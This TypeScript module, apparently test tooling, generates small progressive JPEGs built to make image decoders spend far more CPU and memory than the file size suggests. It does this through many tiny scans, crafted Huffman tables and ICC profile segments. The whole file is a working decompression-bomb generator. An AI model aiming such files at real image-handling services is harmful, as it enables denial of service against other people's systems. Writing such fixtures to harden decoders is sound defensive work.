// Writes JPEGs that cost a decoder much more than their bytes suggest (ITU-T T.81).

/** A component's horizontal and vertical sampling factor. */
type Sampling = readonly [number, number]

export const COMPONENTS = {
  grey: [[1, 1]],
  yuv444: [
    [1, 1],
    [1, 1],
    [1, 1],
  ],
  yuv420: [
    [2, 2],
    [1, 1],
    [1, 1],
  ],
  yuv411: [
    [4, 1],
    [1, 1],
    [1, 1],
  ],
  cmyk: [
    [1, 1],
    [1, 1],
    [1, 1],
    [1, 1],
  ],
} satisfies Record<string, Sampling[]>

/** Markers of the two progressive kinds of frames. */
export const FRAMES = { huffman: 0xc2, arithmetic: 0xca }

export interface HostileJpeg {
  width: number
  height: number
  /** @default 4:4:4 */
  components?: readonly Sampling[]
  /** @default huffman */
  frame?: number
  /** The number of scans: the first has the DC coefficients, every later one the AC coefficients of a component. */
  scans: number
  /**
   * Whether each scan refines the coefficients of the scan before: a decoder then reads every
   * coefficient. Otherwise each scan codes them again: a decoder skips whole blocks. @default true
   */
  isRefining?: boolean
}

/** Writes a valid, grey, progressive JPEG of this many scans, each of about 20 bytes. */
export function hostileJpeg({
  width,
  height,
  components = COMPONENTS.yuv444,
  frame = FRAMES.huffman,
  scans,
  isRefining = true,
}: HostileJpeg): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  // A bit per block and component, and then two bytes per 2^14 blocks.
  const dcData = Buffer.alloc(Math.ceil((blocks * components.length) / 8) + 32)
  const acData = Buffer.alloc(Math.ceil(blocks / 2 ** 14) * 2)
  const specs = components.flatMap(([x, y], index) => [index + 1, x * 16 + y, 0])
  const bits = components.map(() => 0)
  const parts = [
    startOfScan(
      components.map((_, index) => index),
      0,
      0,
    ),
    dcData,
  ]
  for (let scan = 1; scan < scans; scan++) {
    const component = scan % components.length
    // Bit 13 of the coefficients, then bit 12 … 0, then all of them again.
    const before = bits[component] ?? 0
    const bit = isRefining ? (before + 13) % 14 : 0
    bits[component] = bit
    parts.push(startOfScan([component], 63, before * 16 + bit), acData)
  }
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0], Buffer.alloc(64, 1)),
    segment(frame, [8, ...u16(height), ...u16(width), components.length, ...specs]),
    huffmanTable(0x00, 0x00), // no DC difference
    huffmanTable(0x10, 0xe0), // 2^14 blocks without AC coefficients, plus the next 14 bits
    ...parts,
    Buffer.from([0xff, 0xd9]),
  ])
}

/** Inserts segments at the start of a JPEG. */
export function withSegments(jpeg: Buffer, ...segments: readonly Buffer[]): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)])
}

/** Writes a marker with its length and content. */
export function segment(
  marker: number,
  ...content: readonly (readonly number[] | Buffer)[]
): Buffer {
  const bytes = Buffer.concat(content.map((part) => Buffer.from(part as Buffer)))
  return Buffer.concat([Buffer.from([0xff, marker, ...u16(bytes.length + 2)]), bytes])
}

/** Splits an ICC profile into the APP2 segments in which a JPEG contains it. */
export function iccSegments(profile: Buffer): Buffer[] {
  const SIZE = 65_000
  const count = Math.ceil(profile.length / SIZE)
  return Array.from({ length: count }, (_, index) =>
    segment(
      0xe2,
      Buffer.from('ICC_PROFILE\0'),
      [index + 1, count],
      profile.subarray(index * SIZE, (index + 1) * SIZE),
    ),
  )
}

/** A scan of coefficients up to `end`, in zigzag order. `bits`: 16 × the bit before this scan + the bit now. */
function startOfScan(components: readonly number[], end: number, bits: number): Buffer {
  const tables = components.flatMap((component) => [component + 1, 0])
  return segment(0xda, [components.length, ...tables, Math.min(end, 1), end, bits])
}

/** A table with one symbol, whose code is a zero bit. */
function huffmanTable(id: number, symbol: number): Buffer {
  return segment(0xc4, [id, 1, ...new Array<number>(15).fill(0), symbol])
}

function u16(value: number): number[] {
  return [value >> 8, value & 0xff]
}
